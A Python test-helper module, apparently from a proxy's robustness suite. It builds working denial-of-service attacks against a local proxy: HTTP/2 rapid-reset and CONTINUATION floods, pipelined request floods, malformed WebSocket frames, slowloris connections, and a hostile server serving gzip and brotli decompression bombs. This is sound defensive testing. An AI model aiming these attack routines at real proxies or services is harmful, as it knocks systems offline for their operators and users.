"""What one hostile client, or one hostile server behind a client, sends to hold a proxy up. Each returns when it has sent all."""

import gzip
import socket
import time
from contextlib import suppress

import brotli
from h2.config import H2Configuration
from h2.connection import H2Connection

from testenv.rawserver import RawServer
from testenv.tunnel import open_tunnel

HOST = "api.example.com"


def to_proxy(proxy, timeout_s: float = 30.0) -> socket.socket:
    """A connection to the proxy itself; it comes from 127.0.0.1, which the neighbour does not."""
    return socket.create_connection(("127.0.0.1", proxy.port), timeout=timeout_s)


def _inside(proxy, *, alpn: tuple[str, ...] = ()) -> socket.socket:
    return open_tunnel(proxy.port, proxy.ca_pem, f"{HOST}:443", alpn=alpn, timeout_s=30)


def _sent(sock: socket.socket, *pieces: bytes) -> None:
    """As much of it as the proxy takes."""
    with suppress(OSError):
        for piece in pieces:
            sock.sendall(piece)
        sock.settimeout(1)
        while sock.recv(65536):
            pass
    sock.close()


def http1(head: bytes, *more: bytes):
    """A request inside a tunnel."""

    def attack(proxy) -> None:
        _sent(_inside(proxy), head, *more)

    return attack


def to_the_proxy(data: bytes):
    """Bytes to the proxy itself."""

    def attack(proxy) -> None:
        _sent(to_proxy(proxy), data)

    return attack


def pipelined(proxy) -> None:
    """Requests that nobody waits for, behind one that is not answered yet."""
    one = b"GET /slow?ahead HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
    _sent(_inside(proxy), one, b"GET /json HTTP/1.1\r\nHost: api.example.com\r\n\r\n" * 40_000)


class _Http2:
    def __init__(self, proxy) -> None:
        self.sock = _inside(proxy, alpn=("h2",))
        h2 = H2Connection(H2Configuration(validate_outbound_headers=False))
        h2.initiate_connection()
        self.sock.sendall(h2.data_to_send())
        self.encoder = h2.encoder
        self.stream_id = 1

    def head(self, *more: tuple[str, str], path: str = "/json?reset") -> bytes:
        fields = [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", path), *more]
        block = self.encoder.encode(fields)
        return frame(1, 0x5, self.stream_id, block)


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


def resets(count: int):
    """Requests that are taken back in the same piece."""

    def attack(proxy) -> None:
        client, pieces = _Http2(proxy), []
        for _ in range(count):
            pieces.append(client.head() + frame(3, 0, client.stream_id, b"\0\0\0\x08"))
            client.stream_id += 2
        _sent(client.sock, b"".join(pieces))

    return attack


def later_resets(rounds: int, each: int = 50):
    """Requests that are taken back a moment later."""

    def attack(proxy) -> None:
        client = _Http2(proxy)
        with suppress(OSError):
            for _ in range(rounds):
                ids = [client.stream_id + 2 * number for number in range(each)]
                heads = []
                for client.stream_id in ids:
                    heads.append(client.head())
                client.sock.sendall(b"".join(heads))
                time.sleep(0.01)
                client.sock.sendall(b"".join(frame(3, 0, one, b"\0\0\0\x08") for one in ids))
                client.stream_id += 2
        _sent(client.sock)

    return attack


def frames(one: bytes, count: int):
    """The same frame again and again, behind one good request."""

    def attack(proxy) -> None:
        client = _Http2(proxy)
        _sent(client.sock, client.head(path="/json?first"), one * count)

    return attack


def http2_fields(*fields: tuple[str, str]):
    """One request with these fields, in as many pieces as it takes."""

    def attack(proxy) -> None:
        client = _Http2(proxy)
        block = client.encoder.encode(
            [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/flood"), *fields]
        )
        parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
        sent = [frame(1 if n == 0 else 9, 0x1 if n == 0 else 0, 1, part) for n, part in enumerate(parts)]
        last = bytearray(sent[-1])
        last[4] |= 0x4
        _sent(client.sock, b"".join([*sent[:-1], bytes(last)]))

    return attack


def endless_head(proxy) -> None:
    """A header block whose end never comes."""
    client = _Http2(proxy)
    block = client.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/flood")])
    more = frame(9, 0, 1, b"\x00\x01a\x01b" * 2000)
    _sent(client.sock, frame(1, 0x1, 1, block), more * 400)


def in_a_socket(*pieces: bytes):
    """Bytes of a client inside an open WebSocket, not masked but with a mask of zeros."""

    def attack(proxy) -> None:
        sock = open_tunnel(proxy.port, proxy.ca_pem, "ws.example.com:443", timeout_s=30)
        sock.sendall(
            b"GET /ws?socket HTTP/1.1\r\nHost: ws.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        assert sock.recv(4096).startswith(b"HTTP/1.1 101")
        _sent(sock, *pieces)

    return attack


def masked(first: int, data: bytes = b"", *, said: int | None = None) -> bytes:
    """A frame of a client. ``said`` is the length that it claims."""
    size = len(data) if said is None else said
    if size < 126:
        length = bytes([0x80 | size])
    else:
        length = b"\xfe" + size.to_bytes(2, "big") if size < 65536 else b"\xff" + size.to_bytes(8, "big")
    return bytes([first]) + length + bytes(4) + data


SERVER = "bomb.example.com"


def _answers() -> dict[str, bytes]:
    def coded(coding: str, body: bytes) -> bytes:
        head = f"Content-Type: application/json\r\nContent-Encoding: {coding}\r\nContent-Length: {len(body)}\r\n\r\n"
        return head.encode() + body

    gbk = "中文".encode("gbk") * 50_000_000
    return {
        "/bomb-gbk": coded("gzip", gzip.compress(gbk, 6)),
        "/bomb-br": coded("br", brotli.compress(gbk, quality=1)),
        "/many-chunks": b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 1_000_000 + b"0\r\n\r\n",
        "/many-fields": b"Content-Length: 2\r\n" + b"a:\r\n" * 60_000 + b"\r\n{}",
        "/endless-head": b"a: b\r\n" * 1_000_000,
    }


def hostile_server(leaf) -> RawServer:
    """Answers each of the paths that ``answer`` asks for."""
    answers = _answers()

    def answer(received: bytes) -> bytes:
        if not received.endswith(b"\r\n\r\n"):
            return b""
        return b"HTTP/1.1 200 OK\r\n" + answers[received.split(b" ", 2)[1].decode()]

    return RawServer(answer, leaf)


def answer(path: str):
    """An ordinary request, whose answer is the attack."""

    def attack(proxy) -> None:
        head = f"GET {path} HTTP/1.1\r\nHost: {SERVER}\r\nX-Miniprogram-Api: request\r\nConnection: close\r\n\r\n"
        _sent(open_tunnel(proxy.port, proxy.ca_pem, f"{SERVER}:443", timeout_s=30), head.encode())

    return attack


def slow_heads(count: int, seconds: float):
    """As many half heads, a byte a second each."""

    def attack(proxy) -> None:
        socks = [to_proxy(proxy) for _ in range(count)]
        for sock in socks:
            sock.sendall(b"GET http://api.example.com/slowloris HTTP/1.1\r\nHost: api")
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            time.sleep(1)
            for sock in socks:
                with suppress(OSError):
                    sock.sendall(b"a")
        for sock in socks:
            sock.close()

    return attack
